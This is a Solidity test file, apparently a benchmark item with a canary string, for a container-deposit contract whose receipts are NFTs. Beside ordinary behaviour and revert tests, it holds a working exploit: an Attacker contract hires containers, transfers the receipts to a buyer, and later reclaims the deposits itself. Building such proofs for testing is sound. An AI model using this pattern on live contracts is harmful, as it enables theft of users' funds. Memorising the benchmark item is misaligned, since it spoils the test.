// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC721Errors} from "@openzeppelin/contracts@5.4.0/interfaces/draft-IERC6093.sol";
import "./ContainerDeposits.sol";

// assay-canary-dbafef2a-85d2-4eef-9893-6d2aa3282f2c

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_790_000_000;

    ContainerDeposits private depot;
    Attacker private mallory;

    // Mallory hired three containers and handed them and their receipts on to Ben, who has brought them back.
    function setUp() public {
        vm.warp(START);
        depot = new ContainerDeposits(20, 2 ether);
        vm.deal(ANA, 20 ether);
        vm.startPrank(ANA);
        depot.hire{value: 2 ether}(0);
        depot.hire{value: 2 ether}(1);
        vm.stopPrank();
        mallory = new Attacker(depot);
        vm.deal(address(this), 6 ether);
        mallory.start{value: 6 ether}(BEN);
        for (uint256 i = 5; i < 8; i++) depot.takeIn(i);
    }

    function test_Regular() public {
        (address lessee, uint64 due, bool returned) = depot.hires(1);
        require(lessee == ANA && due == START + 180 days && !returned && depot.ownerOf(1) == ANA, "hired");
        depot.takeIn(0);
        vm.startPrank(ANA);
        depot.reclaim(0, payable(ANA));
        require(ANA.balance == 18 ether, "reclaimed");
        depot.hire{value: 2 ether}(0);
        depot.safeTransferFrom(ANA, BEN, 0);
        depot.approve(BEN, 1);
        depot.hire{value: 2 ether}(2);
        vm.stopPrank();
        depot.takeIn(1);
        vm.startPrank(BEN);
        depot.reclaim(1, payable(BEN));
        depot.reclaim(5, payable(BEN));
        require(BEN.balance == 4 ether, "by approval, and as a holder");
        depot.setApprovalForAll(ANA, true);
        vm.stopPrank();
        vm.startPrank(ANA);
        depot.reclaim(6, payable(ANA));
        depot.transferFrom(BEN, ANA, 0);
        depot.safeTransferFrom(ANA, BEN, 2, "");
        vm.stopPrank();
        vm.warp(START + 180 days + 1);
        depot.forfeit(0, payable(address(0xD0)));
        require(address(0xD0).balance == 2 ether && address(depot).balance == 4 ether, "forfeited");
        depot.transferOwnership(ANA);
        vm.prank(ANA);
        depot.renounceOwnership();
    }

    function test_RefusesHires() public {
        vm.expectRevert(abi.encodeWithSelector(ContainerDeposits.BadTerms.selector, 0, 1));
        new ContainerDeposits(0, 1);
        vm.expectRevert(abi.encodeWithSelector(ContainerDeposits.BadTerms.selector, 1, 0));
        new ContainerDeposits(1, 0);
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(ContainerDeposits.NoSuchContainer.selector, 20));
        depot.hire{value: 2 ether}(20);
        vm.expectRevert(abi.encodeWithSelector(ContainerDeposits.WrongDeposit.selector, 1 ether));
        depot.hire{value: 1 ether}(3);
        vm.expectRevert(abi.encodeWithSelector(IERC721Errors.ERC721InvalidSender.selector, address(0)));
        depot.hire{value: 2 ether}(5);
        vm.stopPrank();
    }

    function test_RefusesReclaims() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(ContainerDeposits.NotReturned.selector, 0));
        depot.reclaim(0, payable(ANA));
        vm.expectRevert(abi.encodeWithSelector(IERC721Errors.ERC721InsufficientApproval.selector, ANA, 5));
        depot.reclaim(5, payable(ANA));
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert(ContainerDeposits.NoAccount.selector);
        depot.reclaim(5, payable(address(0)));
    }

    function test_RefusesStrangers() public {
        vm.warp(START + 180 days + 1);
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        depot.takeIn(0);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        depot.forfeit(0, payable(ANA));
        vm.stopPrank();
    }

    function test_RefusesDepots() public {
        vm.expectRevert(abi.encodeWithSelector(IERC721Errors.ERC721NonexistentToken.selector, 3));
        depot.takeIn(3);
        vm.warp(START + 180 days);
        vm.expectRevert(abi.encodeWithSelector(ContainerDeposits.NotDue.selector, 0));
        depot.forfeit(0, payable(ANA));
        vm.warp(START + 180 days + 1);
        vm.expectRevert(ContainerDeposits.NoAccount.selector);
        depot.forfeit(0, payable(address(0)));
        vm.expectRevert(abi.encodeWithSelector(IERC721Errors.ERC721NonexistentToken.selector, 3));
        depot.forfeit(3, payable(ANA));
        vm.expectRevert(abi.encodeWithSelector(ContainerDeposits.Returned.selector, 5));
        depot.forfeit(5, payable(ANA));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 6 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(depot);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ContainerDeposits private depot;

    constructor(ContainerDeposits depot_) {
        depot = depot_;
    }

    function start(address buyer) external payable {
        for (uint256 i = 5; i < 8; i++) {
            depot.hire{value: 2 ether}(i);
            depot.transferFrom(address(this), buyer, i);
        }
    }

    function run() external {
        for (uint256 i = 5; i < 8; i++) depot.reclaim(i, payable(address(this)));
    }

    receive() external payable {}
}
